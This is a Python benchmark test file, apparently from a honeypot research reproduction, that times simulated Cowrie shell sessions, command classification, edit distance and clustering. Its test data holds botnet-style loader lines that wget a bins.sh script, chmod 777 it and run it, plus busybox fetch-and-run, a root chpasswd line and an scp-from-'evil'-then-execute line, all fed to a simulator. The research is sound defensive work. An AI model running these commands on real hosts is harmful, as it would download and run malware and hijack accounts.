"""Substrate microbenchmarks: the pieces every experiment sits on.

These quantify the cost of the simulator and analysis primitives
themselves (honeypot shell throughput, classification throughput,
token-DLD, K-medoids, simulation day rate), independent of any figure.
"""

from __future__ import annotations

import random
from datetime import date

import numpy as np

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.dld import damerau_levenshtein
from repro.analysis.kmedoids import kmedoids
from repro.attackers.orchestrator import run_simulation
from repro.config import SimulationConfig
from repro.honeypot.cowrie import CowrieHoneypot
from repro.honeypot.session import ConnectionIntent

_LOADER_LINES = (
    "cd /tmp || cd /var/run || cd /mnt",
    "wget http://10.1.2.3/bins.sh -O bins.sh",
    "chmod 777 bins.sh",
    "./bins.sh",
    "rm -rf bins.sh",
)


def test_honeypot_session_throughput(benchmark):
    """Fifty sessions replaying the same five loader lines.

    After the first session every line is a hit in the shell's parse
    and URI memos, so this times execution of memoized parses, not the
    tokenizer.
    """
    honeypot = CowrieHoneypot(honeypot_id="hp", ip="192.0.2.1")
    intent = ConnectionIntent(
        client_ip="1.1.1.1",
        credentials=(("root", "admin"),),
        command_lines=_LOADER_LINES,
        remote_files=(("http://10.1.2.3/bins.sh", b"payload"),),
    )

    def run_batch():
        for index in range(50):
            honeypot.handle(intent, float(index))

    benchmark(run_batch)


def test_classifier_throughput(benchmark):
    texts = [
        "cd /tmp; wget http://h/f; chmod +x f; ./f",
        'echo -e "\\x6F\\x6B"',
        "uname -s -v -n -r -m",
        "/bin/busybox QKZDF; /bin/busybox wget http://h/f",
        'echo "root:A1b2C3d4E5f6G7h8Z"|chpasswd',
        "scp evil:/x /tmp/x; ./x",
    ] * 200

    def classify_all():
        return [DEFAULT_CLASSIFIER.classify_text(t) for t in texts]

    labels = benchmark(classify_all)
    assert len(labels) == len(texts)


def test_token_dld(benchmark):
    rng = random.Random(0)
    vocabulary = ["cd", "/tmp", "wget", "<url>", "chmod", "777", "rm", "-rf"]
    a = [rng.choice(vocabulary) for _ in range(60)]
    b = [rng.choice(vocabulary) for _ in range(60)]

    def pairwise():
        return [damerau_levenshtein(a, b) for _ in range(30)]

    benchmark(pairwise)


def test_kmedoids_200_points(benchmark):
    rng = np.random.default_rng(0)
    points = rng.random((200, 2))
    diffs = points[:, None, :] - points[None, :, :]
    matrix = np.sqrt((diffs**2).sum(axis=2))

    result = benchmark.pedantic(
        lambda: kmedoids(matrix, 8, seed=0), rounds=3, iterations=1
    )
    assert result.k == 8


def test_simulation_one_week(benchmark):
    config = SimulationConfig(
        seed=99, scale=1e-4, start=date(2022, 5, 1), end=date(2022, 5, 7)
    )

    result = benchmark.pedantic(
        lambda: run_simulation(config), rounds=3, iterations=1
    )
    assert len(result.database) > 0
